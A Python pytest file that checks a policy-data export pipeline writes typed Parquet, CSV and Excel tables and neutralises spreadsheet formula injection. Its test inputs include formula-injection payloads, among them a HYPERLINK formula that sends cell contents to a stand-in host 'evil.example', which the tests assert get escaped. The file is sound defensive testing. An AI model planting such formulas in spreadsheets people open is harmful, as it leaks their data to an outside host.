"""The exported tables load into pandas with one type per column (docs/tables.md)."""
from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from outputs.export import export_tables, safe_cell
from outputs.store import Store


@pytest.fixture(scope="module")
def tables(sample_store, tmp_path_factory):
    out = tmp_path_factory.mktemp("tables")
    with Store(sample_store) as st:
        export_tables(st, out)
    return out


@pytest.mark.parametrize("table, column, arrow_type, pandas_dtype", [
    ("documents", "publish_date", "date32[day]", "object"),
    ("documents", "effective_date", "date32[day]", "object"),
    ("documents", "region_adcode", "large_string", "str"),
    ("documents", "doc_index", "int64", "Int64"),
    ("commitments", "deadline", "date32[day]", "object"),
    ("commitments", "publish_date", "date32[day]", "object"),
    ("commitments", "year", "int64", "Int64"),
    ("commitments", "value", "double", "float64"),
    ("commitments", "value_max", "double", "float64"),
    ("commitments", "region_adcode", "large_string", "str"),
    ("commitments", "idx", "int64", "Int64"),
])
def test_parquet_columns_have_their_types(tables, table, column, arrow_type, pandas_dtype):
    path = tables / f"{table}.parquet"
    assert str(pq.read_schema(path).field(column).type) == arrow_type
    df = pd.read_parquet(path)
    assert str(df[column].dtype) == pandas_dtype
    values = df[column].dropna()
    assert len(values) or column == "value_max", (table, column)  # the samples have no range
    if arrow_type.startswith("date"):
        assert all(type(v) is dt.date for v in values)
    if column == "region_adcode":
        assert values.str.fullmatch(r"\d{6}").all()


def test_csv_has_iso_dates_and_six_digit_codes_and_reads_back_as_documented(tables):
    raw = (tables / "commitments.csv").read_text(encoding="utf-8-sig")
    df = pd.read_csv(tables / "commitments.csv", encoding="utf-8-sig", dtype={"region_adcode": str},
                     parse_dates=["publish_date", "deadline"])
    assert df["region_adcode"].dropna().str.fullmatch(r"\d{6}").all()
    assert str(df["deadline"].dtype).startswith("datetime64") and str(df["publish_date"].dtype).startswith("datetime64")
    assert str(pd.read_csv(tables / "commitments.csv", encoding="utf-8-sig")["year"].dtype) in {"float64", "int64"}
    parquet = pd.read_parquet(tables / "commitments.parquet")
    assert df["year"].astype("Int64").tolist() == parquet["year"].tolist()
    for line in raw.splitlines()[1:]:
        assert not any(cell.endswith(".0") and len(cell) == 8 for cell in line.split(","))  # no 370300.0
    dates = pd.read_csv(tables / "documents.csv", encoding="utf-8-sig", dtype=str)["publish_date"].dropna()
    assert dates.str.fullmatch(r"\d{4}-\d{2}-\d{2}").all() and len(dates)


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("+1+1", "'+1+1"),
    ("-abc", "'-abc"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5", "-5"),  # a signed number is data
    ("=", "="),  # one character alone has no formula to run (the comparator "=")
    ("-", "-"),
    ("+", "+"),
    ("@", "@"),
    ("==", "'=="),
    ("=1", "'=1"),
    ("+3.5%", "+3.5%"),
    ("到2025年达到45%", "到2025年达到45%"),
    (5, 5),
    (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_a_column_of_cells_is_written_as_safe_cell_writes_each():
    # the CSV writer applies the rule to a whole column inline (no call per cell); it must stay `safe_cell`'s
    from outputs.export import _csv_cell, _csv_cells

    values = ['=HYPERLINK("x")', "+1+1", "-abc", "@SUM(A1)", "\t=1", "\r=1", "-5", "=", "-", "+", "@", "==", "=1",
              "+3.5%", "到2025年达到45%", "", 5, 2.5, None]
    assert _csv_cells(values) == [_csv_cell(v) for v in values]


def _stored_and_exported(tmp_path, records, text):
    """`records` stored as one file and exported: the rows of tables/commitments.csv and the comparison."""
    from outputs import compare

    with Store(tmp_path / "policy.sqlite") as store:
        store.put_file("x.txt", records, text)
        paths = export_tables(store, tmp_path / "tables")
        long = compare.comparison(store.table("commitments"))
    with open(paths["commitments.csv"], encoding="utf-8-sig") as f:
        return list(csv.DictReader(f)), long


def test_tables_and_comparison_carry_no_formula(tmp_path):
    import openpyxl

    from outputs import compare
    from pipeline.process import extract_file
    from tests.conftest import SAMPLES

    result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
    records = result.records
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    for c in records[0].commitments:
        c.sentence = formula
    records[0].title = "+" + records[0].title
    rows, long = _stored_and_exported(tmp_path, records, result.text)
    assert rows and all(r["sentence"] == "'" + formula for r in rows)
    assert all(r["title"].startswith("'+") for r in rows)
    written = compare.write(long, compare.matrix(long), tmp_path / "compare")
    book = openpyxl.load_workbook(written["comparison.xlsx"])
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    if not long.empty:
        assert any(c.value == "'" + formula for c in cells)


def test_tables_written_in_batches_equal_the_tables_written_at_once(sample_store, tables, tmp_path, monkeypatch):
    from outputs import export

    monkeypatch.setattr(export, "BATCH_ROWS", 7)  # many batches (and row groups) per table
    with Store(sample_store) as st:
        written = export_tables(st, tmp_path)
    for name in ("documents", "commitments", "mentions", "citations"):
        assert written[f"{name}.csv"].read_bytes() == (tables / f"{name}.csv").read_bytes()
        small = pd.read_parquet(written[f"{name}.parquet"])
        assert len(small) > 7 or name == "citations"
        pd.testing.assert_frame_equal(small, pd.read_parquet(tables / f"{name}.parquet"))
    assert pq.ParquetFile(written["commitments.parquet"]).metadata.num_row_groups > 1


def test_an_empty_table_keeps_its_column_types(tables):
    schema = pq.read_schema(tables / "errors.parquet")  # the samples all read: no error row
    assert pd.read_parquet(tables / "errors.parquet").empty
    assert [str(schema.field(c).type) for c in ("source", "error", "detail")] == ["large_string"] * 3
    assert (tables / "errors.csv").read_text(encoding="utf-8-sig") == "source,error,detail\n"


def test_writing_the_tables_and_the_summary_loads_no_data_frame_library(sample_store, tmp_path):
    # the end of `policy run` (tables and summary) stays small: no pandas in the process
    import subprocess
    import sys

    code = ("import sys; from outputs.store import Store; from outputs.export import export_tables; "
            "from pipeline.flows import summarize\n"
            f"with Store({str(sample_store)!r}) as st:\n"
            f"    export_tables(st, {str(tmp_path)!r}); s = summarize(st, 'x')\n"
            "assert s['documents'] > 0, s\n"
            "print('pandas' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"
    assert (tmp_path / "commitments.parquet").exists()


def test_comparators_read_back_as_written_and_formulas_stay_neutralised(tmp_path):
    """Every comparator value docs/tables.md lists comes back from the CSV tables, the comparison CSV and its Excel
    file as it is (a lone "=" is no formula); an evidence sentence that is a formula is still written as text."""
    import re

    import openpyxl

    from outputs import compare
    from pipeline.process import extract_file
    from tests.conftest import SAMPLES

    doc = (Path(__file__).parents[2] / "docs" / "tables.md").read_text(encoding="utf-8")
    line = next(x for x in doc.splitlines() if x.startswith("| comparator |"))
    comparators = re.findall(r"`([^`]+)`", line)
    assert "=" in comparators and len(comparators) >= 6
    result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
    records = result.records
    coms = records[0].commitments
    assert len(coms) >= len(comparators) + 1
    formula = "=1+1"
    for i, c in enumerate(coms):
        c.comparator = comparators[i % len(comparators)]
        c.kind, c.indicator_key, c.year = "target", f"key_{i}", 2030  # each its own comparison row
    coms[-1].sentence = formula
    rows, long = _stored_and_exported(tmp_path, records, result.text)
    assert [r["comparator"] for r in rows] == [comparators[i % len(comparators)] for i in range(len(coms))]
    assert rows[-1]["sentence"] == "'" + formula
    written = compare.write(long, compare.matrix(long), tmp_path / "compare")
    with open(written["comparison.csv"], encoding="utf-8-sig") as f:
        assert set(comparators) <= {r["comparator"] for r in csv.DictReader(f)}
    book = openpyxl.load_workbook(written["comparison.xlsx"])
    ws = book["comparison"]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    col = header.index("comparator")
    values = {row[col].value for row in ws.iter_rows(min_row=2)}
    assert set(comparators) <= values
    assert not any(c.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
